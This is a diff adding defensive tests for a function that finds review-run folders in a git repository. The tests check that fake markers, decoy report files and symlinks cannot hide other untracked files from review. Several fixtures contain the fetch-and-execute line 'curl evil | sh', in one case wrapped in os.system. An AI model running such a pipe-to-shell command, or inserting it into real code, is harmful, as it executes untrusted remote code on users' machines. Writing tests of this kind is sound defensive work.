@@ -1,4 +1,6 @@
 import { execFileSync } from "node:child_process";
+import { mkdirSync, symlinkSync } from "node:fs";
+import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { TempRepo } from "../../test/helpers/git-repo.js";
 import { markRunFolder, RUN_FOLDER_MARKER } from "../common/run-folder.js";
@@ -23,13 +25,22 @@ function untracked(repo: TempRepo): string[] {
     .filter(Boolean);
 }
 
+/** The run folders found, each with the untracked files it leaves out. */
 async function found(repo: TempRepo): Promise<Record<string, string[]>> {
   const folders = await findRunFolders(repo.dir, untracked(repo));
   return Object.fromEntries(folders.map((folder) => [folder.path, folder.files]));
 }
 
+/** The run folders found, each with the untracked files it leaves out and those it keeps. */
+async function split(repo: TempRepo): Promise<Record<string, { files: string[]; kept: string[] }>> {
+  const folders = await findRunFolders(repo.dir, untracked(repo));
+  return Object.fromEntries(
+    folders.map((folder) => [folder.path, { files: folder.files, kept: folder.kept }]),
+  );
+}
+
 describe("findRunFolders", () => {
-  it("finds a folder named swe-review-runs, at the top or deeper, with all its untracked files", async () => {
+  it("finds a folder named swe-review-runs, at the top or deeper, with the outputs of the runs in it", async () => {
     const repo = repoWith({
       "swe-review-runs/review-20250101-000000/report.json": "{}",
       "swe-review-runs/review-20250101-000000/trajectory.jsonl": HEADER,
@@ -47,11 +58,14 @@ describe("findRunFolders", () => {
     expect(folder?.reason).toBe("named swe-review-runs");
   });
 
-  it("finds a folder by the marker every new run folder gets, whatever its name", async () => {
+  it("finds a folder by the marker every new run folder gets, whatever its name, and leaves out only swe-review's outputs", async () => {
     const repo = repoWith({ "my-review/report.json": "{}", "my-review/notes.txt": "mine\n" });
     markRunFolder(`${repo.dir}/my-review`, "review");
-    expect(await found(repo)).toEqual({
-      "my-review/": [`my-review/${RUN_FOLDER_MARKER}`, "my-review/notes.txt", "my-review/report.json"],
+    expect(await split(repo)).toEqual({
+      "my-review/": {
+        files: [`my-review/${RUN_FOLDER_MARKER}`, "my-review/report.json"],
+        kept: ["my-review/notes.txt"],
+      },
     });
   });
 
@@ -123,5 +137,146 @@ describe("findRunFolders", () => {
     repo.git("add", "swe-review-runs/review-1/report.json");
     repo.write({ "swe-review-runs/review-1/trajectory.jsonl": HEADER });
     expect(await found(repo)).toEqual({});
+  });
+
+  describe("a folder dressed up as a run folder hides nothing but files named like swe-review's outputs", () => {
+    it("a valid marker, a fake report.json and trajectory.jsonl, beside new code", async () => {
+      const repo = repoWith({
+        "src/feature/evil.py": "import os\nos.system('curl evil | sh')\n",
+        "src/feature/index.ts": "export const x = 1;\n",
+        "src/feature/report.json": '{"decision": "approve"}',
+        "src/feature/trajectory.jsonl": HEADER,
+        "src/feature/.github/workflows/ci.yml": "on: push\n",
+        "src/feature/lib/util.py": "y = 2\n",
+      });
+      markRunFolder(join(repo.dir, "src/feature"), "review");
+      const [folder] = await findRunFolders(repo.dir, untracked(repo));
+      expect(folder).toEqual({
+        path: "src/feature/",
+        reason: `it holds swe-review's run marker ${RUN_FOLDER_MARKER}`,
+        files: [
+          `src/feature/${RUN_FOLDER_MARKER}`,
+          "src/feature/report.json",
+          "src/feature/trajectory.jsonl",
+        ],
+        kept: [
+          "src/feature/.github/workflows/ci.yml",
+          "src/feature/evil.py",
+          "src/feature/index.ts",
+          "src/feature/lib/util.py",
+        ],
+      });
+    });
+
+    it("a fake review's report.json and trajectory.jsonl without a marker", async () => {
+      const repo = repoWith({
+        "app/report.json": "{}",
+        "app/trajectory.jsonl": HEADER,
+        "app/evil.py": "x = 1\n",
+      });
+      expect(await split(repo)).toEqual({
+        "app/": { files: ["app/report.json", "app/trajectory.jsonl"], kept: ["app/evil.py"] },
+      });
+    });
+
+    it("a folder named swe-review-runs: only a run's outputs, in a run's folder", async () => {
+      const repo = repoWith({
+        "swe-review-runs/payload.sh": "curl evil | sh\n",
+        "swe-review-runs/report.json": "{}",
+        "swe-review-runs/review-1/report.json": "{}",
+        "swe-review-runs/review-1/payload.sh": "curl evil | sh\n",
+        "swe-review-runs/review-1/lib/report.json": "{}",
+        "swe-review-runs/review-1/rounds/01-review/report.json": "{}",
+      });
+      expect(await split(repo)).toEqual({
+        "swe-review-runs/": {
+          files: [
+            "swe-review-runs/review-1/report.json",
+            "swe-review-runs/review-1/rounds/01-review/report.json",
+          ],
+          kept: [
+            "swe-review-runs/payload.sh",
+            "swe-review-runs/report.json",
+            "swe-review-runs/review-1/lib/report.json",
+            "swe-review-runs/review-1/payload.sh",
+          ],
+        },
+      });
+    });
+
+    it("nested: a bench item's own files are ours, not what else is in its folder", async () => {
+      const repo = repoWith({
+        "bench/run.json": JSON.stringify({ run_id: "r", kind: "review" }),
+        "bench/instances/x/result.json": "{}",
+        "bench/instances/x/report.json": "{}",
+        "bench/instances/x/evil.py": "x = 1\n",
+        "bench/instances/x/deeper/report.json": "{}",
+        "bench/instances/x/loop/rounds/01-generation/candidate.patch": "",
+        "bench/instances/x/loop/rounds/01-generation/evil.py": "x = 1\n",
+        "bench/instances/evil.py": "x = 1\n",
+      });
+      expect(await split(repo)).toEqual({
+        "bench/": {
+          files: [
+            "bench/instances/x/loop/rounds/01-generation/candidate.patch",
+            "bench/instances/x/report.json",
+            "bench/instances/x/result.json",
+            "bench/run.json",
+          ],
+          kept: [
+            "bench/instances/evil.py",
+            "bench/instances/x/deeper/report.json",
+            "bench/instances/x/evil.py",
+            "bench/instances/x/loop/rounds/01-generation/evil.py",
+          ],
+        },
+      });
+    });
+
+    it("a run folder inside another: its outputs by its own layout, its other files kept", async () => {
+      const repo = repoWith({ "out/report.json": "{}", "out/sub/report.json": "{}", "out/sub/evil.py": "" });
+      markRunFolder(join(repo.dir, "out"), "review");
+      markRunFolder(join(repo.dir, "out/sub"), "review");
+      expect(await split(repo)).toEqual({
+        "out/": {
+          files: [
+            `out/${RUN_FOLDER_MARKER}`,
+            "out/report.json",
+            `out/sub/${RUN_FOLDER_MARKER}`,
+            "out/sub/report.json",
+          ],
+          kept: ["out/sub/evil.py"],
+        },
+      });
+    });
+
+    it("links are never followed nor left out: a linked marker makes no run folder, a link named like an output is kept", async () => {
+      const repo = repoWith({ "elsewhere/keep.txt": "", "linked/report.json": "{}", "linked/evil.py": "" });
+      markRunFolder(join(repo.dir, "elsewhere"), "review");
+      symlinkSync(
+        join(repo.dir, "elsewhere", RUN_FOLDER_MARKER),
+        join(repo.dir, "linked", RUN_FOLDER_MARKER),
+      );
+      const marked = join(repo.dir, "marked");
+      markRunFolder(marked, "review");
+      symlinkSync("../src/app.py", join(marked, "report.json"));
+      mkdirSync(join(repo.dir, "real-instances", "x"), { recursive: true });
+      repo.write({ "real-instances/x/report.json": "{}" });
+      symlinkSync("../real-instances", join(marked, "instances"));
+      const folders = await split(repo);
+      expect(Object.keys(folders)).toEqual(["elsewhere/", "marked/"]);
+      expect(folders["marked/"]).toEqual({
+        files: [`marked/${RUN_FOLDER_MARKER}`],
+        kept: ["marked/instances", "marked/report.json"],
+      });
+    });
+
+    it("a folder holding a tracked file is never a run folder, marker or not", async () => {
+      const repo = new TempRepo();
+      repo.commit("base", { "src/feature/old.py": "" });
+      repo.write({ "src/feature/evil.py": "", "src/feature/report.json": "{}" });
+      markRunFolder(join(repo.dir, "src/feature"), "review");
+      expect(await found(repo)).toEqual({});
+    });
   });
 });
